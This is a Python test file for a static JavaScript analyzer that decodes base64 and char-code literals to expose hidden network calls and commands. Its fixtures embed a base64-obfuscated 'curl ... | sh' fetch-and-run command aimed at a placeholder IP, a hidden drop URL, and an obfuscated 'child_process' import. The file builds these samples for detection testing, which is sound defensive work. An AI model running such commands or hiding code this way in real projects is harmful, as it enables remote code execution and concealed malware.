"""Literals JavaScript decodes at run time are decoded statically and scanned like plain text."""

from __future__ import annotations

import base64

import pytest

from distrust.analyze.js.decode import from_buffer, from_char_codes
from distrust.analyze.js.engine import analyze_js


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _caps(source: str) -> set[tuple[str, str]]:
    return {(c.kind, c.value) for c in analyze_js("index.js", source.encode(), dialect="js").capabilities}


def test_a_base64_url_handed_to_https_is_found() -> None:
    url = "https://collect.example-drop.net/u"
    hidden = f"Buffer.from('{_b64(url)}', 'base64').toString()"
    caps = _caps(f"const https = require('https');\nhttps.get({hidden});\n")
    assert ("network.url", url) in caps
    assert ("network.request", f"http.get {url}") in caps  # the label names the API family
    assert ("obfuscation.decoded", f"Buffer.from: {url}") in caps


def test_atob_through_a_const_and_char_codes_are_decoded() -> None:
    command = "curl -s http://203.0.113.9/x | sh"
    codes = ", ".join(str(ord(c)) for c in "child_process")
    source = (
        f"const hidden = '{_b64(command)}';\n"
        "const cmd = atob(hidden);\n"
        f"const mod = String.fromCharCode({codes});\n"
    )
    caps = _caps(source)
    assert ("obfuscation.decoded", f"atob: {command}") in caps
    assert ("obfuscation.decoded", "String.fromCharCode: child_process") in caps


@pytest.mark.parametrize(
    "source",
    [
        # an embedded binary blob decodes to bytes, not text
        f"const wasm = Buffer.from('{base64.b64encode(bytes(range(256))).decode()}', 'base64');\n",
        # readable but harmless text is decoded and scanned, yet is not "hidden"
        f"const greeting = Buffer.from('{_b64('hello there, friend')}', 'base64').toString();\n",
        # utf8 is not an encoding anyone hides behind
        "const b = Buffer.from('https://example.org/', 'utf8');\n",
    ],
)
def test_ordinary_buffers_are_not_hidden_strings(source: str) -> None:
    assert not any(kind == "obfuscation.decoded" for kind, _ in _caps(source))


def test_decoders_refuse_garbage() -> None:
    assert from_buffer("not base64 at all!", "base64") is None
    assert from_buffer("zz", "hex") is None
    assert from_buffer("aGVsbG8gd29ybGQ=", "latin1") is None
    assert from_char_codes([0x110000]) is None
    assert from_char_codes([104, 105, 33, 33]) == "hi!!"
